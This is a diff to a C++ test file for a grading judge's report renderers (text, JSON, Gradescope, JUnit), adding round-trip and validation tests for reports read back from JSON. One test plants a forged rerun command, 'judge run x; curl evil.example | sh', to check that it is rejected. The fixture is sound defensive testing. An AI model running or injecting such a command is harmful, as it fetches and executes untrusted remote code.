@@ -1,9 +1,12 @@
 // The renderers on a hand-made report: terminal text, JSON, Gradescope and JUnit.
 #include <catch2/catch.hpp>
+#include <limits>
 
+#include "core/errors.hpp"
 #include "fixtures.hpp"
 #include "report/formats.hpp"
 #include "report/render.hpp"
+#include "report/report_json.hpp"
 #include "report/shown.hpp"
 #include "traps/evaluate.hpp"
 #include "traps/trap_report.hpp"
@@ -51,9 +54,9 @@ TEST_CASE("the text report: the misconception, what to fix first and its hint, a
 
 TEST_CASE("a failure no known mistake of its trap explains: Fix first names the test, and no hint is given",
           "[render]") {
-    std::vector<judge::TestOutcome> tests = {
-        judge::not_run(prob().tests[0], Verdict::wrong_answer, "out[0,1] differs"),
-        judge::not_run(prob().tests[1], Verdict::accepted, ""), judge::not_run(prob().tests[2], Verdict::accepted, "")};
+    std::vector<judge::TestOutcome> tests = {judge::not_run(prob().tests[0], Verdict::wrong_answer, "out[0,1] differs"),
+                                             judge::not_run(prob().tests[1], Verdict::accepted, ""),
+                                             judge::not_run(prob().tests[2], Verdict::accepted, "")};
     const judge::Report r = judge::assemble_report(prob(), 0, tests);
     CHECK_FALSE(r.traps[0].explained);
     CHECK(judge::render_text(r, judge::Style{false}) ==
@@ -148,7 +151,7 @@ TEST_CASE("the JSON report has the documented fields", "[render]") {
 }
 
 TEST_CASE("Gradescope: one test per trap, worth its tests' points", "[formats]") {
-    const nlohmann::json g = judge::gradescope_results(prob(), judge::render_json(report()), 3);
+    const nlohmann::json g = judge::gradescope_results(report(), 3);
     CHECK(g["score"] == 2);
     CHECK(g["execution_time"] == 3);
     CHECK(g["output"] ==
@@ -166,16 +169,17 @@ TEST_CASE("Gradescope: one test per trap, worth its tests' points", "[formats]")
 
 TEST_CASE("JUnit: a suite per student, a case per trap, XML escaped", "[formats]") {
     judge::JunitCounts total;
-    const std::string suite = judge::render_junit_suite("ada", judge::render_json(report()), total);
-    CHECK(suite ==
-          "  <testsuite name=\"ada\" tests=\"2\" failures=\"1\" errors=\"0\" time=\"0\">\n"
-          "    <testcase classname=\"ada\" name=\"values\" time=\"0\">\n"
-          "      <failure type=\"wrong_answer\" message=\"out[0,1] differs &lt;here&gt; &amp; there\">test t_values "
-          "(hidden): out[0,1] differs &lt;here&gt; &amp; there\nThis is exactly the output of this mistake: tiling with repeat.\n"
-          "hint: Look at the values.</failure>\n"
-          "    </testcase>\n"
-          "    <testcase classname=\"ada\" name=\"errors\" time=\"0\"></testcase>\n"
-          "  </testsuite>\n");
+    const std::string suite = judge::render_junit_suite("ada", report(), total);
+    CHECK(
+        suite ==
+        "  <testsuite name=\"ada\" tests=\"2\" failures=\"1\" errors=\"0\" time=\"0\">\n"
+        "    <testcase classname=\"ada\" name=\"values\" time=\"0\">\n"
+        "      <failure type=\"wrong_answer\" message=\"out[0,1] differs &lt;here&gt; &amp; there\">test t_values "
+        "(hidden): out[0,1] differs &lt;here&gt; &amp; there\nThis is exactly the output of this mistake: tiling with repeat.\n"
+        "hint: Look at the values.</failure>\n"
+        "    </testcase>\n"
+        "    <testcase classname=\"ada\" name=\"errors\" time=\"0\"></testcase>\n"
+        "  </testsuite>\n");
     CHECK(total.tests == 2);
     CHECK(total.failures == 1);
     CHECK(
@@ -225,14 +229,118 @@ TEST_CASE("every format carries a blocked trap and a counterexample", "[formats]
     CHECK(text.find("      counterexample: f(x, n) on fresh small inputs:\n        x (2,) = [1, 2.5]\n        n = 3\n"
                     "      expected out (2,) = [2, 5]\n      got      out (2,) = [2, 6]\n      out[1] differs\n") !=
           std::string::npos);
-    const nlohmann::json g = judge::gradescope_results(p, j, 1);
+    const nlohmann::json g = judge::gradescope_results(r, 1);
     CHECK(g["tests"][0]["output"] ==
           "test t_values (hidden): out[0,1] differs\ncounterexample on fresh small inputs: f(n = 3; x (2,) = [1, "
           "2.5]); expected out (2,) = [2, 5]; got out (2,) = [2, 6]\nout[1] differs\nhint: Look at the values.");
     CHECK(g["tests"][1]["output"] == "not assessed until values passes");
     judge::JunitCounts total;
-    const std::string suite = judge::render_junit_suite("ada", j, total);
+    const std::string suite = judge::render_junit_suite("ada", r, total);
     CHECK(suite.find("<failure type=\"blocked\" message=\"not assessed until values passes\">") != std::string::npos);
+}
+
+TEST_CASE("a report read back from its JSON is the same report, in every format", "[formats]") {
+    judge::Problem p = prob();
+    p.traps[1].after = {"values"};
+    std::vector<judge::TestOutcome> tests = {judge::not_run(p.tests[0], Verdict::wrong_answer, "out[0,1] differs"),
+                                             judge::not_run(p.tests[1], Verdict::accepted, ""),
+                                             judge::not_run(p.tests[2], Verdict::runtime_error, "threw")};
+    judge::Counterexample c;
+    c.function = "f";
+    judge::npy::Array x;
+    x.shape = {2, 1};
+    x.f32 = {std::numeric_limits<float>::quiet_NaN(), 0.1f};
+    judge::npy::Array lens;
+    lens.dtype = judge::npy::Dtype::int64;
+    lens.shape = {2};
+    lens.i64 = {3, 0};
+    judge::npy::Array flag;
+    flag.dtype = judge::npy::Dtype::int64;
+    flag.i64 = {1};
+    c.inputs = {{"x", true, x}, {"lens", false, lens}, {"causal", false, flag, true}};
+    c.expected = {{"out", true, x}};
+    c.message = "out[1] differs";
+    tests[0].counterexample = c;
+    tests[0].counterexample_tried = 5;
+    tests[0].evidence = "seeded_bug";
+    tests[0].misconception = "tiling with repeat";
+    tests[0].misconception_bug = "lens_repeat";
+    tests[2].counterexample_tried = 7;  // searched, none found
+    tests[2].hidden = false;            // a sample test: the report gives its rerun command
+    judge::Report r = judge::assemble_report(p, 42, tests);
+    r.sandbox = "bubblewrap";
+    r.submission = "ada's work/solution.cpp";
+    r.untouched_template = true;
+    const nlohmann::json j = judge::render_json(r);
+    const judge::Report back = judge::report_from_json(j, p, "report.json");
+    CHECK(judge::render_json(back) == j);
+    CHECK(judge::json_text(judge::render_json(back)) == judge::json_text(j));
+    CHECK(judge::gradescope_results(back, 1) == judge::gradescope_results(r, 1));
+    judge::JunitCounts a, b;
+    CHECK(judge::render_junit_suite("ada", back, a) == judge::render_junit_suite("ada", r, b));
+    REQUIRE(back.traps.size() == 2);
+    CHECK(back.traps[0].failed_test == "t_values");
+    CHECK(back.traps[0].max_points == 3);
+    CHECK(back.traps[1].blocked);
+    CHECK(back.tests[0].description == p.tests[0].description);  // the spec's, which the JSON omits
+    CHECK(back.submission == "ada's work/solution.cpp");         // from the rerun command
+    REQUIRE(j["tests"][2].contains("rerun"));
+    nlohmann::json forged = j;
+    forged["tests"][2]["rerun"] = "judge run x; curl evil.example | sh";
+    CHECK_THROWS_WITH(judge::report_from_json(forged, p, "r.json"),
+                      Catch::Contains("r.json: test t_throws: rerun \"judge run x; curl evil.example | sh\" is not"));
+
+    // A missing submission is a verdict like any other, with the documented fields.
+    const judge::Report missing = judge::missing_report(p, 42);
+    const nlohmann::json m = judge::render_json(missing);
+    CHECK(m["verdict"] == "missing");
+    CHECK(m["first_fix"].is_null());
+    CHECK(m["traps"][0]["status"] == "failed");
+    CHECK(m["traps"][0]["blocked_by"] == nlohmann::json::array());
+    CHECK(judge::render_json(judge::report_from_json(m, p, "m.json")) == m);
+    CHECK(judge::render_text(missing, judge::Style{false}) == "No submission.\n\nfixture: missing, 0/4 points\n");
+}
+
+TEST_CASE("report_from_json refuses what no judging of this problem writes, naming the file", "[formats]") {
+    const judge::Problem p = prob();
+    const nlohmann::json good = judge::render_json(report());
+    const auto refused = [&](nlohmann::json j, const std::string& words) {
+        try {
+            (void)judge::report_from_json(j, p, "students/ada/report.json");
+        } catch (const judge::InputError& e) {
+            CHECK(std::string(e.what()).find("students/ada/report.json: " + words) != std::string::npos);
+            return;
+        }
+        FAIL("accepted: " << j.dump());
+    };
+    nlohmann::json j = good;
+    j["verdict"] = "great";
+    refused(j, "unknown verdict \"great\"");
+    j = good;
+    j["score"] = 3;
+    refused(j, "score 3 is not the sum of its tests' points, 2");
+    j = good;
+    j["max_score"] = 40;
+    refused(j, "max_score 40 is not the problem's 4");
+    j = good;
+    j["tests"][0]["id"] = "t_other";
+    refused(j, "unknown test \"t_other\"");
+    j = good;
+    j["traps"][0]["passed"] = true;
+    j["traps"][0]["status"] = "passed";
+    refused(j, "trap values passed, but its test t_values failed");
+    j = good;
+    j["tests"][0].erase("message");
+    refused(j, "not a report of this judge");
+    j = good;
+    j["sandbox"] = "";
+    refused(j, "sandbox \"\" is not a tier of this judge");
+    try {
+        (void)judge::report_from_text("{\"verdict\": ", p, "students/ada/report.json");
+        FAIL("accepted invalid JSON");
+    } catch (const judge::InputError& e) {
+        CHECK(std::string(e.what()).rfind("students/ada/report.json: invalid JSON: ", 0) == 0);
+    }
 }
 
 TEST_CASE("a counterexample's tensors print as numpy does, rows aligned", "[render]") {
